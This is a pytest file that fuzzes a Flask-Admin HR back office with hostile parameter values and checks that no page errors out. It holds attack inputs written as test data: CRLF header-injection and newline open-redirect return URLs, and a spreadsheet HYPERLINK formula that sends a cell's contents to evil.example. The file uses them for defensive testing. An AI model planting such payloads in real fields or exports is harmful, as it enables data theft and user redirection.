"""Hostile input to the back office: every list, details page and export, every parameter.

Like the schemathesis test of the API: each registered Flask-Admin view is walked
as an admin and as an HR officer with a table of hostile values (huge numbers, NUL,
a lone surrogate percent-encoded, long strings, odd Unicode) in its page, page
size, sort, search, filters, ids and return URLs. None may answer a 500 or show a
traceback.
"""

from __future__ import annotations

from urllib.parse import quote

import pytest
from flask_admin.model import BaseModelView

from tests import backoffice as bo
from tests.factories import new_record

HOSTILE = [
    "99999999999999999999",  # past any integer column (and PostgreSQL's bigint)
    "-99999999999999999999",
    "-1",
    "%00",  # NUL: PostgreSQL refuses it in text
    "%ED%A0%80",  # a lone surrogate, UTF-8 encoded (not valid UTF-8)
    "%F0%9F%98%80",  # an emoji (4 UTF-8 bytes)
    quote("²٣"),  # digits to str.isdigit(), not to an ASCII parser
    quote("\u202eevil"),  # right-to-left override
    "%25%5F%5C",  # LIKE's wildcards and escape: %_\
    "x" * 3000,
    quote("\n\r"),
    "",
]
LIST_PARAMS = ["page", "page_size", "sort", "desc", "search"]
RETURN_VALUES = ["/%0A/evil.example/", "%0D%0ASet-Cookie:x=1", "/admin/%09", "%00"]
OTHER_PAGE_PARAMS = ["year", "agency", "period", "after", "id", "url"]


def _views(app):
    return [view for admin in app.extensions["admin"] for view in admin._views]


def _model_views(app):
    return [v for v in _views(app) if isinstance(v, BaseModelView)]


def _other_views(app):
    return [v for v in _views(app) if not isinstance(v, BaseModelView)]


def _get(client, url: str, failures: list) -> None:
    try:
        response = client.get(url)
    except Exception as exc:  # the test app propagates what would be a 500
        failures.append(f"{url[:160]} raised {type(exc).__name__}: {str(exc)[:160]}")
        return
    body = response.get_data(as_text=True)
    if response.status_code >= 500 or "Traceback (most recent call last)" in body:
        failures.append(f"{url[:160]} answered {response.status_code}")


@pytest.fixture(params=["admin", "hr"])
def logged_in(request, client, session, cast):
    for workflow in ("appraisal", "training_nomination", "mentoring_assignment"):
        new_record(session, cast, workflow)
    bo.log_in(client, session, getattr(cast, request.param))
    return client


def test_every_list_and_details_page_refuses_hostile_values_without_a_500(app, logged_in):
    failures: list[str] = []
    for view in _model_views(app):
        base = view.url
        filters = [f"flt0_{view.get_filter_arg(i, f)}" for i, f in enumerate(view._filters or [])]
        for value in HOSTILE:
            for param in LIST_PARAMS:
                _get(logged_in, f"{base}/?{param}={value}", failures)
            # All filters at once: each is validated on its own, and any one could fail.
            _get(logged_in, f"{base}/?" + "&".join(f"{f}={value}" for f in filters), failures)
            _get(logged_in, f"{base}/?flt{value}_{value}={value}", failures)
            _get(logged_in, f"{base}/details/?id={value}&url={value}", failures)
    assert not failures, "\n".join(failures[:40])


def test_every_export_refuses_hostile_values_without_a_500(app, logged_in):
    failures: list[str] = []
    for view in _model_views(app):
        if not view.can_export:
            continue
        for value in HOSTILE:
            query = f"search={value}&sort={value}&page={value}&flt0_0={value}"
            _get(logged_in, f"{view.url}/export/csv/?{query}", failures)
    assert not failures, "\n".join(failures[:40])


def test_every_other_page_refuses_hostile_values_without_a_500(app, logged_in):
    failures: list[str] = []
    for view in _other_views(app):
        for value in HOSTILE:
            query = "&".join(f"{param}={value}" for param in OTHER_PAGE_PARAMS)
            _get(logged_in, f"{view.url.rstrip('/')}/?{query}", failures)
    assert not failures, "\n".join(failures[:40])


@pytest.mark.parametrize("target", RETURN_VALUES)
def test_a_return_address_with_control_characters_is_a_400_page(app, logged_in, target):
    failures: list[str] = []
    for view in _model_views(app):
        _get(logged_in, f"{view.url}/details/?id=999999&url={target}", failures)
        _get(logged_in, f"{view.url}/new/?url={target}", failures)
    for path in ("/login", "/admin/"):
        _get(logged_in, f"{path}?next={target}", failures)
    assert not failures, "\n".join(failures[:40])
    if "%0A" in target or "%0D" in target:
        response = logged_in.get(f"/admin/agency/details/?id=1&url={target}")
        assert response.status_code == 400
        assert "kendali" in bo.text(response)


@pytest.mark.parametrize("version", ["²", "٣", "99999999999999999999", "-1"])
def test_a_step_posted_with_a_garbled_version_is_refused_as_stale(client, session, cast, version):
    record = new_record(session, cast, "appraisal")
    bo.log_in(client, session, cast.subject)
    response = bo.fire(client, "appraisal", record, "submit", version=version)
    assert response.status_code == 200
    assert bo.flash_text(bo.text(response))
    session.refresh(record)
    assert record.state == "draft"


def test_a_step_posted_with_a_newline_in_next_is_a_400_and_changes_nothing(client, session, cast):
    record = new_record(session, cast, "appraisal")
    bo.log_in(client, session, cast.subject)
    response = bo.fire(client, "appraisal", record, "submit", next="/\n/evil.example/")
    assert response.status_code == 400
    session.refresh(record)
    assert record.state == "draft"


# -- found by trying it as an insider ------------------------------------------------------


@pytest.mark.parametrize("period", ["annual\n", "Q1\n", "M01\n", " annual", "ANNUAL"])
def test_a_period_that_is_none_of_the_periods_is_refused_everywhere(
    client, session, cast, bearer, period
):
    from sqlalchemy import func, select, text
    from sqlalchemy.exc import IntegrityError

    from workflow.models import Appraisal, OrganisationRating

    def counts():
        session.rollback()  # what the server wrote, not this session's snapshot
        return [session.scalar(select(func.count()).select_from(m)) for m in (Appraisal,)] + [
            session.scalar(select(func.count()).select_from(OrganisationRating))
        ]

    before = counts()
    # the employee, through the API (a second appraisal of an appraised year)
    response = client.post(
        "/api/v1/appraisals",
        json={"employee_id": cast.subject_employee.id, "year": 2025, "period": period},
        headers=bearer(cast.subject),
    )
    assert response.status_code == 422
    # … and through the back office
    bo.log_in(client, session, cast.subject)
    page = bo.text(client.get("/admin/admin_appraisals/new/"))
    client.post(
        "/admin/admin_appraisals/new/",
        data={"csrf_token": bo.csrf(page), "year": "2025", "period": period},
    )
    bo.log_out(client)
    # an HR officer setting the organisation's rating for such a period
    bo.log_in(client, session, cast.hr)
    page = bo.text(client.get("/admin/predicate-distribution/"))
    client.post(
        "/admin/predicate-distribution/rate",
        data={
            "csrf_token": bo.csrf(page),
            "agency": cast.agency.id,
            "year": "2025",
            "period": period,
            "rating": "Baik",
        },
    )
    assert counts() == before
    # … and the database itself, edited by hand
    with pytest.raises(IntegrityError):
        session.execute(
            text(
                "INSERT INTO organisation_ratings (agency_id, year, period, rating, set_at) "
                "VALUES (:agency, 2025, :period, 'Baik', CURRENT_TIMESTAMP)"
            ),
            {"agency": cast.agency.id, "period": period},
        )
        session.flush()
    session.rollback()


def test_the_below_20_jp_export_neutralises_formulas_in_names_and_units(client, session, cast):
    employee = cast.colleague.employee
    employee.name = '=HYPERLINK("http://evil.example/?"&A2,"klik")'
    employee.unit.name = "@SUM(1+1)"
    session.commit()
    bo.log_in(client, session, cast.hr)
    exported = bo.text(client.get(f"/admin/jp-report/export.csv?year=2026&agency={cast.agency.id}"))
    row = next(line for line in exported.splitlines() if line.startswith(employee.nip))
    assert "\"'=HYPERLINK(" in row and ",'@SUM(1+1)," in row
    assert ",=" not in row and ",@" not in row


@pytest.mark.parametrize(
    "url",
    [
        "/admin/inbox/?after=2026-01-01T00:00:00%2B00:00|appraisal|99999999999999999999999",
        "/admin/inbox/?after=2026-01-01T00:00:00%2B00:00|appraisal|-1",
        "/admin/jp-report/?after=9223372036854775808",
        "/admin/jp-report/?after=-9223372036854775809",
    ],
)
def test_a_paging_cursor_past_a_row_id_shows_the_first_page(client, session, cast, url):
    bo.log_in(client, session, cast.hr)
    response = client.get(url)
    assert response.status_code == 200
